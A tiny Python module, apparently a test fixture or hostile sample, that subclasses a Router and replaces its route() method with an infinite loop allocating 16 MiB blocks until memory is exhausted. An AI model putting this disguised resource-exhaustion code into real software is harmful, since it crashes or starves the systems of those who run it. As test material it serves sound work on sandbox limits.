from _router import Router as _R

hoard = []


class Router(_R):
    def route(self, key):
        while True:
            hoard.append(bytearray(16 << 20))
